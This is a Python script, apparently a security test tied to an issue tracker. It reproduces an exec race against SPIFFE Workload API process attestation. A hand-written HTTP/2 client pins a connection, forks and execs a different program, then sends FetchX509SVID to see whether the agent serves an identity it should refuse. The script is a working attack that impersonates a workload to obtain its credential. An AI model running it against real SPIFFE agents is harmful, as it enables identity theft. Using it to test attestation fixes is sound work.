#!/usr/bin/python3
"""The exec race against unix:path / unix:sha256 attestation (issue 14, point 3), from the
attacker's side, with a hand-written HTTP/2 client (no grpcio: its threads do not survive fork).

  exec_race.py SOCKET MODE RESULT_FILE [PROGRAM ARGS...]

The process connects to the Workload API and makes one Health/Check call on the connection (the
agent has accepted and pinned it once that is answered), then forks:
  parent-execs  the parent (the pinned process) execs PROGRAM ARGS; the child waits until
                /proc/<parent>/exe is PROGRAM and sends FetchX509SVID on the inherited connection
  child-execs   the child execs PROGRAM ARGS; the parent waits until /proc/<child>/exe is PROGRAM
                and sends FetchX509SVID
  no-exec       the parent sleeps; the child sends FetchX509SVID (a legitimate forking workload)
The sender writes to RESULT_FILE one word: SERVED (a response message came), REFUSED (the call
ended without one), or TIMEOUT; then the sleeper is killed (unless it exec'd).
"""
import os
import signal
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream) + payload


def hpack_int(n, prefix_bits):
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([n])
    out = [limit]
    n -= limit
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def literal(name, value):
    # Literal header field without indexing, new name, no Huffman coding.
    n, v = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(n), 7) + n + hpack_int(len(v), 7) + v


def request(stream, path):
    hdrs = b"".join(literal(k, v) for k, v in [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers"),
        ("workload.spiffe.io", "true")])
    return frame(1, 0x4, stream, hdrs) + frame(0, 0x1, stream, b"\x00\x00\x00\x00\x00")


def read_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise EOFError
        buf += chunk
    return buf


def call(s, stream, path, timeout=10):
    """Sends one call; 'SERVED', 'REFUSED' or 'TIMEOUT'."""
    s.sendall(request(stream, path))
    s.settimeout(timeout)
    got_data = False
    try:
        while True:
            head = read_exact(s, 9)
            length = int.from_bytes(head[:3], "big")
            ftype, flags = head[3], head[4]
            sid = int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
            payload = read_exact(s, length)
            if ftype == 4 and not flags & 1:
                s.sendall(frame(4, 1, 0, b""))
            elif ftype == 6 and not flags & 1:
                s.sendall(frame(6, 1, 0, payload))
            elif sid == stream and ftype == 0 and length > 5:
                got_data = True
                # Server streams stay open: one message is the answer.
                return "SERVED"
            elif sid == stream and ftype in (1, 3) and (flags & 1 or ftype == 3):
                return "SERVED" if got_data else "REFUSED"
            elif ftype == 7:
                return "REFUSED"
    except (socket.timeout, EOFError):
        return "TIMEOUT" if not got_data else "SERVED"


def wait_exe(pid, program, secs=10):
    end = time.monotonic() + secs
    while time.monotonic() < end:
        try:
            if os.readlink("/proc/%d/exe" % pid) == program:
                return True
        except OSError:
            pass
        time.sleep(0.01)
    return False


def main():
    sock_path, mode, result = sys.argv[1], sys.argv[2], sys.argv[3]
    program = sys.argv[4:] or ["/bin/sleep", "30"]
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(sock_path)
    s.sendall(PREFACE + frame(4, 0, 0, b""))
    first = call(s, 1, "/grpc.health.v1.Health/Check")
    if first != "SERVED":
        sys.exit("Health/Check on the connection: %s" % first)
    os.set_inheritable(s.fileno(), True)
    me = os.getpid()
    pid = os.fork()
    sender = (mode == "parent-execs" and pid == 0) or (mode == "child-execs" and pid != 0) or \
        (mode == "no-exec" and pid == 0)
    if not sender:
        if mode == "no-exec":
            time.sleep(30)
            os._exit(0)
        os.execv(program[0], program)
    other = me if pid == 0 else pid
    if mode != "no-exec" and not wait_exe(other, program[0]):
        out = "NOEXEC"
    else:
        out = call(s, 3, "/SpiffeWorkloadAPI/FetchX509SVID")
    with open(result + ".tmp", "w") as f:
        f.write(out + "\n")
    os.rename(result + ".tmp", result)
    try:
        os.kill(other, signal.SIGKILL)
    except OSError:
        pass
    if pid != 0:
        os.waitpid(pid, 0)
    os._exit(0)


if __name__ == "__main__":
    main()
